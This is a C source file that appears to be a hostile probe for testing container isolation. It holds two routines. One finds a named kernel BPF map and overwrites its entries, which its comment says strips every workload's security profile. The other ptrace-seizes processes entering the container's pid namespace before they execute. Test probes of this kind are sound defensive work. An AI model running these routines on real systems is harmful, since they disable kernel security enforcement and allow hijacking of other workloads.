/* The kernel's maps, and a runtime on its way in. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "hostile.h"

static long bpf(int command, union bpf_attr* a) {
  return syscall(SYS_bpf, command, a, sizeof *a);
}

/* bpf-maps NAME: looks for the kernel's map of that name and opens it for writing. */
int do_bpf(const char* name) {
  union bpf_attr a;
  unsigned id = 0;
  int refused = 0;
  for (;;) {
    memset(&a, 0, sizeof a);
    a.start_id = id;
    if (bpf(BPF_MAP_GET_NEXT_ID, &a) != 0) break;
    id = a.next_id;
    memset(&a, 0, sizeof a);
    a.map_id = id;
    const int fd = (int)bpf(BPF_MAP_GET_FD_BY_ID, &a);
    if (fd < 0) {
      refused += errno == EPERM;
      continue;
    }
    struct bpf_map_info info;
    memset(&info, 0, sizeof info);
    memset(&a, 0, sizeof a);
    a.info.bpf_fd = (unsigned)fd;
    a.info.info_len = sizeof info;
    a.info.info = (unsigned long)&info;
    if (bpf(BPF_OBJ_GET_INFO_BY_FD, &a) == 0 && strcmp(info.name, name) == 0) {
      printf("bpf: map %s is open\n", name);
      /* with this much the rest is plain: every workload is given no profile */
      char value[512] = {0};
      for (unsigned key = 1; key < 8 && info.value_size <= sizeof value; ++key) {
        memset(&a, 0, sizeof a);
        a.map_fd = (unsigned)fd;
        a.key = (unsigned long)&key;
        a.value = (unsigned long)value;
        bpf(BPF_MAP_UPDATE_ELEM, &a);
      }
      return 0;
    }
    close(fd);
  }
  printf("bpf: ended at %u with %s, %d refused\n", id, strerror(errno), refused);
  return refused || errno == EPERM ? 1 : 2;
}

/* catch: waits for a process that comes into this pid namespace and is not run from here, and
 * traces it before it executes the container's program. */
int do_catch(const char* ready) {
  const pid_t own = getpid();
  close(open(ready, O_CREAT | O_WRONLY, 0644));
  int refused = 0;
  for (int seen = 0; refused < 20000 && seen < 3;) {
    DIR* d = opendir("/proc");
    struct dirent* e;
    while ((e = readdir(d))) {
      const pid_t pid = atoi(e->d_name);
      if (pid <= 1 || pid == own) continue;
      char name[64], exe[256] = "";
      if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        snprintf(name, sizeof name, "/proc/%d/comm", pid);
        const int fd = open(name, O_RDONLY);
        if (fd >= 0 && read(fd, exe, sizeof exe - 1) < 0) exe[0] = 0;
        close(fd);
        ptrace(PTRACE_DETACH, pid, 0, 0);
        if (strncmp(exe, "probe", 5) == 0) {
          ++seen; /* it came through: the rules hold it */
          continue;
        }
        printf("catch: pid %d traced: %s", pid, exe);
        closedir(d);
        return 0;
      }
      refused += errno == EPERM;
    }
    closedir(d);
  }
  return 1;
}
